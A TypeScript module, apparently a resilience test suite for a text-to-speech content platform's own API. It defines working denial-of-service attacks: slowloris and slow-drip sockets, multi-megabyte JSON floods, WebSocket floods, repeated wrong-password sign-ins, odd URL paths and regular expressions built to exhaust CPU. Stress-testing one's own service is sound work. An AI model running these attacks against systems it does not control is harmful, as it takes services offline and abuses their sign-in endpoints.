import { randomBytes } from "node:crypto";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { type Attack, fromManySides, type Target } from "./attack.ts";
import {
  blocksOfLetter,
  emptyRuns,
  escapedPairs,
  hardLexicon,
  largestScript,
  markedBlock,
  unknownKeys,
} from "./bodies.ts";

function project({ url, organisationId, projectId }: Target): string {
  return `${url}/api/organisation/${organisationId}/integration/${projectId}`;
}

function headersOf({ token }: Target): Record<string, string> {
  return { authorization: `Bearer ${token}`, "content-type": "application/json" };
}

async function send(address: string, init: RequestInit, signal: AbortSignal): Promise<void> {
  const answer = await fetch(address, { ...init, signal });
  await answer.arrayBuffer();
}

/** Opens sockets that say something now and then, and never enough. */
async function openSockets(
  target: Target,
  count: number,
  talk: (socket: Socket) => void,
  signal: AbortSignal,
): Promise<void> {
  const { hostname, port } = new URL(target.url);
  const sockets = Array.from({ length: count }, () => {
    const socket = connect({ host: hostname, port: Number(port) });
    socket.on("error", () => undefined);
    return socket;
  });
  while (!signal.aborted) {
    for (const socket of sockets) if (socket.writable) talk(socket);
    // The attack is over.
    await delay(500, undefined, { signal }).catch(() => undefined);
  }
  for (const socket of sockets) socket.destroy();
}

const strangers: Attack[] = [
  {
    name: "23 MB of unknown keys without a token",
    async run(target, signal) {
      const body = unknownKeys(23_000_000);
      await fromManySides({ sides: 6, count: 60, signal }, () =>
        send(
          `${project(target)}/content/v2`,
          { method: "POST", headers: { "content-type": "application/json" }, body },
          signal,
        ),
      );
    },
  },
  {
    name: "bodies of 60 kB to calls without sign-in",
    async run(target, signal) {
      const body = unknownKeys(60_000);
      await fromManySides({ sides: 30, count: 2000, signal }, () =>
        send(
          `${target.url}/api/verify_email`,
          { method: "POST", headers: { "content-type": "application/json" }, body },
          signal,
        ),
      );
    },
  },
  {
    name: "1000 heads that are never finished",
    run: (target, signal) =>
      openSockets(
        target,
        1000,
        (socket) => socket.write(socket.bytesWritten === 0 ? "GET / HTTP/1.1\r\n" : "x-a: b\r\n"),
        signal,
      ),
  },
  {
    name: "400 bodies that drip",
    run: (target, signal) =>
      openSockets(
        target,
        400,
        (socket) =>
          socket.write(
            socket.bytesWritten === 0
              ? "POST /api/verify_email HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{"
              : " ",
          ),
        signal,
      ),
  },
  {
    name: "1000 sockets of the realtime address",
    async run(target, signal) {
      const address = `${target.url.replace("http", "ws")}/api/realtime`;
      const sockets: WebSocket[] = [];
      await fromManySides({ sides: 50, count: 1000, signal }, async () => {
        const socket = new WebSocket(address);
        sockets.push(socket);
        await new Promise((resolve) => {
          socket.onopen = resolve;
          socket.onerror = resolve;
          socket.onclose = resolve;
        });
        if (socket.readyState === WebSocket.OPEN)
          socket.send(JSON.stringify({ type: "authenticate", token: target.token }));
      });
      for (const socket of sockets) socket.close();
    },
  },
  {
    name: "wrong passwords from many sides",
    async run(target, signal) {
      await fromManySides({ sides: 60, count: 600, signal }, (index) =>
        send(
          `${target.url}/api/auth/sign-in/email`,
          {
            method: "POST",
            headers: { "content-type": "application/json", origin: target.url },
            body: JSON.stringify({ email: `nobody${index % 40}@example.com`, password: "wrong horse battery" }),
          },
          signal,
        ),
      );
    },
  },
  {
    name: "odd addresses",
    async run(target, signal) {
      const query = Array.from({ length: 1500 }, (_, index) => `a${index}=b`).join("&");
      const paths = [
        "/api/organisation/..%2f",
        `/api/voices?${query}`,
        `/${"a/".repeat(4000)}`,
        `/listen/${"%41".repeat(2000)}`,
      ];
      await fromManySides({ sides: 40, count: 4000, signal }, (index) =>
        send(`${target.url}${paths[index % paths.length] ?? "/"}`, {}, signal),
      );
    },
  },
  {
    name: "facts and pages of a long article for 60 readers",
    async run(target, signal) {
      const paths = [`/embed/${target.longItem}.json`, `/listen/${target.longItem}`];
      await fromManySides({ sides: 60, count: 20_000, signal }, (index) =>
        send(`${target.url}${paths[index % 2] ?? ""}`, { headers: { "accept-encoding": "identity" } }, signal),
      );
    },
  },
  {
    name: "60 listeners who hardly read",
    run: (target, signal) => {
      const { pathname, host } = new URL(target.audioUrl);
      return openSockets(
        target,
        60,
        (socket) => {
          socket.pause();
          if (socket.bytesWritten === 0) socket.write(`GET ${pathname} HTTP/1.1\r\nhost: ${host}\r\n\r\n`);
        },
        signal,
      );
    },
  },
  {
    name: "batches of events that count for nothing",
    async run(target, signal) {
      const events = Array.from({ length: 24 }, (_, n) => ({ n, at: Date.now(), kind: "play" }));
      const body = JSON.stringify({ content: target.longItem, session: randomBytes(16).toString("hex"), events });
      await fromManySides({ sides: 60, count: 10_000, signal }, () =>
        send(`${target.url}/embed/events`, { method: "POST", headers: { "content-type": "text/plain" }, body }, signal),
      );
    },
  },
];

const members: Attack[] = [
  {
    name: "the largest script saved again and again",
    async run(target, signal) {
      const body = JSON.stringify({ title: "Large", slate_value: largestScript(1900), is_draft: true });
      await fromManySides({ sides: 4, count: 40, signal }, () =>
        send(`${project(target)}/content/v2`, { method: "POST", headers: headersOf(target), body }, signal),
      );
    },
  },
  {
    name: "the price of the largest script",
    async run(target, signal) {
      const body = JSON.stringify({ slate_value: largestScript(1900) });
      await fromManySides({ sides: 6, count: 60, signal }, () =>
        send(
          `${project(target)}/content/${target.longItem}/credits`,
          { method: "POST", headers: headersOf(target), body },
          signal,
        ),
      );
    },
  },
  {
    name: "23 MB of marks and of empty runs",
    async run(target, signal) {
      const marked = markedBlock();
      const bodies = [
        JSON.stringify({ title: "Marks", slate_value: Array.from({ length: 800 }, () => marked), is_draft: true }),
        JSON.stringify({ title: "Runs", slate_value: [emptyRuns(1_800_000)], is_draft: true }),
      ];
      await fromManySides({ sides: 4, count: 24, signal }, (index) =>
        send(
          `${project(target)}/content/v2`,
          { method: "POST", headers: headersOf(target), body: bodies[index % 2] ?? "" },
          signal,
        ),
      );
    },
  },
  {
    name: "24 searches without a hit at once",
    async run(target, signal) {
      await fromManySides({ sides: 24, count: 2000, signal }, (index) =>
        send(`${project(target)}/search?keyword=qqvvxx${index}%20zz`, { headers: headersOf(target) }, signal),
      );
    },
  },
  {
    name: "previews of whole blocks",
    async run(target, signal) {
      const [block] = largestScript(1);
      const { title: _title, ...body } = { title: "", ...block };
      await fromManySides({ sides: 20, count: 200, signal }, async (index) => {
        const answer = await fetch(`${project(target)}/content/${target.longItem}/preview/v2`, {
          method: "POST",
          headers: headersOf(target),
          body: JSON.stringify({ ...body, audio_profile: { ...block?.audio_profile, speed: 60 + (index % 100) } }),
          signal,
        });
        const { data } = (await answer.json()) as { data?: { audio_url: string } };
        if (data) await send(data.audio_url, {}, signal);
      });
    },
  },
  {
    name: "26 imports of one person",
    async run(target, signal) {
      const text = Buffer.from(
        "A line that is read as a paragraph of its own, with *marks* and [links](https://example.org).\n\n".repeat(
          5200,
        ),
      );
      await fromManySides({ sides: 26, count: 52, signal }, async () => {
        const query = {
          file_name: "a.txt",
          content_type: "text/plain",
          file_name_prefix: "import",
          content_length: text.byteLength,
        };
        const signed = await fetch(`${project(target)}/temp-signed-url`, {
          method: "PUT",
          headers: headersOf(target),
          body: JSON.stringify(query),
          signal,
        });
        const { data } = (await signed.json()) as { data: { signed_url: string; url: string } };
        await send(data.signed_url, { method: "PUT", headers: { "content-type": "text/plain" }, body: text }, signal);
        await send(
          `${project(target)}/content/${target.longItem}/import_url`,
          {
            method: "POST",
            headers: headersOf(target),
            body: JSON.stringify({ importType: 0, isReplaceContent: true, article_url: data.url }),
          },
          signal,
        );
      });
    },
  },
  {
    name: "a pronunciation library of 5000 entries, saved and counted",
    async run(target, signal) {
      const lexicon = Array.from({ length: 5000 }, (_, index) => ({
        original: `word${index} of a list`,
        replaceWith: "another word",
        language: "en-US",
      }));
      const expressions = Array.from({ length: 50 }, (_, index) => ({
        original: `[a-z]{1,40}[0-9a-z]{0,40}x${index}`,
        replaceWith: "x",
        language: "*",
        regex: true,
      }));
      const save = JSON.stringify({ pronunciation_library: lexicon });
      const touched = JSON.stringify({ entries: expressions });
      await fromManySides({ sides: 8, count: 200, signal }, (index) =>
        index % 2 === 0
          ? send(
              `${project(target)}/pronunciation_library`,
              { method: "PUT", headers: headersOf(target), body: save },
              signal,
            )
          : send(
              `${project(target)}/pronunciation_library/touched`,
              { method: "POST", headers: headersOf(target), body: touched },
              signal,
            ),
      );
    },
  },
  {
    name: "1.4 million escaped pairs in one list",
    async run(target, signal) {
      const body = `{"title":"Pairs","is_draft":true,"slate_value":[${escapedPairs(1_400_000)}]}`;
      await fromManySides({ sides: 4, count: 60, signal }, () =>
        send(`${project(target)}/content/v2`, { method: "POST", headers: headersOf(target), body }, signal),
      );
    },
  },
  {
    name: "seven regular expressions that match nowhere, by callers who leave",
    async run(target, signal) {
      const init = { method: "PUT", headers: headersOf(target), body: JSON.stringify(hardLexicon(7)) };
      await send(`${project(target)}/pronunciation_library`, init, signal);
      const body = JSON.stringify({ slate_value: blocksOfLetter(1000) });
      await fromManySides({ sides: 6, count: 200, signal }, (index) => {
        const leaves = index % 2 === 0 ? AbortSignal.any([signal, AbortSignal.timeout(1000)]) : signal;
        return send(
          `${project(target)}/content/${target.longItem}/credits`,
          { method: "POST", headers: headersOf(target), body },
          leaves,
        );
      });
    },
  },
  {
    name: "two builds of a book",
    async run(target, signal) {
      const slate_value = largestScript(1900);
      await fromManySides({ sides: 2, count: 2, signal }, async (index) => {
        const changed = slate_value.map((block) => ({
          ...block,
          audio_profile: { ...block.audio_profile, speed: 90 + index },
        }));
        await send(
          `${project(target)}/content/v2`,
          {
            method: "POST",
            headers: headersOf(target),
            body: JSON.stringify({ title: `Book ${index}`, slate_value: changed, is_draft: false }),
          },
          signal,
        );
      });
      // The attack is over.
      await delay(8000, undefined, { signal }).catch(() => undefined);
    },
  },
];

export const attacks: readonly Attack[] = [...strangers, ...members];
